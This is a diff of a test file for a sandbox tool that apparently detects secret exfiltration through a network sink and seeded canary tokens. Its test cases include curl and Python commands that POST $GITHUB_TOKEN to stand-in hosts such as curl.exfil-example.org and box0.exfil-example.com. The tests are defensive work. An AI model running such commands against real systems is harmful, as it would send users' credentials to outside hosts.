@@ -6,7 +6,7 @@ import { createSandbox } from '../../../src/sandbox/index.js';
 import type { Sandbox } from '../../../src/sandbox/types.js';
 import { fixture, requireSandboxTools } from './support.js';
 
-const LIMITS = { wallMs: 15_000, cpuSeconds: 10 };
+const LIMITS = { wallMs: 25_000, cpuSeconds: 10 };
 let sandbox: Sandbox;
 
 beforeAll(async () => {
@@ -106,7 +106,7 @@ describe('evidence with the network sink', () => {
 
   it('decrypts HTTPS from curl, Node and Python with its own CA, and logs refused handshakes by SNI', async () => {
     const clients: [string, string[]][] = [
-      ['curl', ['sh', '-c', 'curl -s -m 5 https://curl.exfil-example.org/c -d "$GITHUB_TOKEN"']],
+      ['curl', ['sh', '-c', 'curl -s -m 15 https://curl.exfil-example.org/c -d "$GITHUB_TOKEN"']],
       [
         'node',
         [
@@ -120,7 +120,7 @@ describe('evidence with the network sink', () => {
         [
           'python3',
           '-c',
-          "import os, urllib.request as u; print(u.urlopen(u.Request('https://py.exfil-example.org/p', data=os.environ['GITHUB_TOKEN'].encode()), timeout=5).read())",
+          "import os, urllib.request as u; print(u.urlopen(u.Request('https://py.exfil-example.org/p', data=os.environ['GITHUB_TOKEN'].encode()), timeout=15).read())",
         ],
       ],
     ];
@@ -209,15 +209,41 @@ describe('evidence without the sink', () => {
 });
 
 describe('network namespaces', () => {
-  it('removes its namespaces on dispose', async () => {
+  it('attributes sink records to the sandbox that sent them when several run at once', async () => {
+    const boxes = await Promise.all(
+      [1, 2, 3].map(() => createSandbox({ backend: 'bubblewrap', seedCanaries: true })),
+    );
+    try {
+      const results = await Promise.all(
+        boxes.map((box, i) =>
+          box.run({
+            argv: ['sh', '-c', `curl -s -m 5 http://box${i}.exfil-example.com/ -d "$GITHUB_TOKEN"`],
+            env: {},
+            network: 'sink',
+            limits: LIMITS,
+          }),
+        ),
+      );
+      results.forEach((result, i) => {
+        const hosts = new Set(result.evidence.network.sink.map((r) => r.host));
+        expect(hosts).toEqual(new Set([`box${i}.exfil-example.com`]));
+        const hits = findCanaryHits(result.evidence).filter((h) => h.kind === 'sink');
+        expect(hits.map((h) => h.canary)).toEqual(['GITHUB_TOKEN']);
+      });
+    } finally {
+      await Promise.all(boxes.map((b) => b.dispose()));
+    }
+  });
+
+  it('gives each sandbox its own namespace on the shared sink and removes it on dispose', async () => {
     const own = () => readdirSync('/run/netns').filter((n) => n.startsWith(`skau-${process.pid}-`));
-    const existing = new Set(own()); // the suite's shared sandbox has its own pair
+    const existing = new Set(own()); // the suite's sandbox has its own, and the process's sink
     const box = await createSandbox({ backend: 'bubblewrap' });
     await box.run({ argv: ['/bin/true'], env: {}, network: 'sink' });
     const made = own().filter((n) => !existing.has(n));
-    expect(made.map((n) => n.replace(/^.*-/, '')).sort()).toEqual(['box', 'sink']);
+    expect(made).toHaveLength(1);
+    expect(made[0]).toMatch(/-box$/);
     await box.dispose();
-    const after = own();
-    for (const name of made) expect(after).not.toContain(name);
+    expect(own()).not.toContain(made[0]);
   });
 });
